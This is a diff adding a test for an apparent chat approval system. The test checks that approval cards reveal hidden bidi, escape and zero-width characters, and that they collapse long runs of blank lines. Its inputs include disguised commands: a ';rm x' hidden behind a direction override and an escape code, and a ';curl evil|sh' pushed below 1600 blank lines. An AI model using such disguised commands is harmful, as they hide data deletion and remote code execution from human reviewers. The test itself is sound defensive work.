@@ -94,6 +94,36 @@ test("G14: who asked for the work is asked in its chat, and answers there by a b
   );
 });
 
+test("G14: a chat shows hidden characters spelled out, without a button that allows them, and blank lines as their number", async () => {
+  const { ask, wants, posts, builder } = await startChats();
+  const subject = (line: string) => ({ type: "command", line, cwd: "/work/app" });
+  const options = [
+    { id: "yes", label: "\u202eyneD", decision: "allow" },
+    { id: "no", label: "\u202ewollA", decision: "deny" },
+  ];
+  const title = "Run \u2066it";
+  const asked = await wants({ subject: subject("ls \u202e\u001b[8m;rm x"), title, options });
+  expect(asked).toMatchObject({ oneTap: false, cut: false });
+  const [card] = await posts();
+  expect(card.body).toContain("builder asks: Run \\u{2066}it\n\nls \\u{202e}\\u{1b}[8m;rm x\nin /work/app\n\n");
+  expect(card.body).toContain(`signalbox approvals answer ${asked.id}`);
+  expect(card.payload.buttons.flat()).toMatchObject([{ text: "\\u{202e}wollA" }]);
+  await ask("POST", `/v1/approvals/${asked.id}/withdraw`, {}, builder);
+  const [over] = await posts();
+  expect(over.body).toStartWith("Run \\u{2066}it: withdrawn");
+  expect(over.payload.edit.text).toContain("ls \\u{202e}\\u{1b}[8m;rm x");
+
+  const tall = await wants({ subject: subject(`ls${"\n".repeat(1600)};curl evil|sh`), title: "List" });
+  expect(tall).toMatchObject({ oneTap: true, cut: false });
+  const [shown] = await posts();
+  expect(shown.body).toContain("ls\n⟨1599 blank lines⟩\n;curl evil|sh\nin /work/app");
+  expect(buttonOf(shown, "Allow")).toBeString();
+  // Spelled out it is too long, so its beginning alone is shown.
+  const long = await wants({ subject: subject("\u200b".repeat(300)), title: "Long" });
+  expect(long.cut).toBe(true);
+  expect((await posts())[0]?.body).toContain("(cut)");
+});
+
 test("with nobody in the chat who may decide it is told so, and the ladder is asked: first one, then the next, then hourly", async () => {
   const { wants, posts, pass, press, state } = await startChats({}, { linked: false });
   const asked = await wants({ expiresInSeconds: 86_400 });
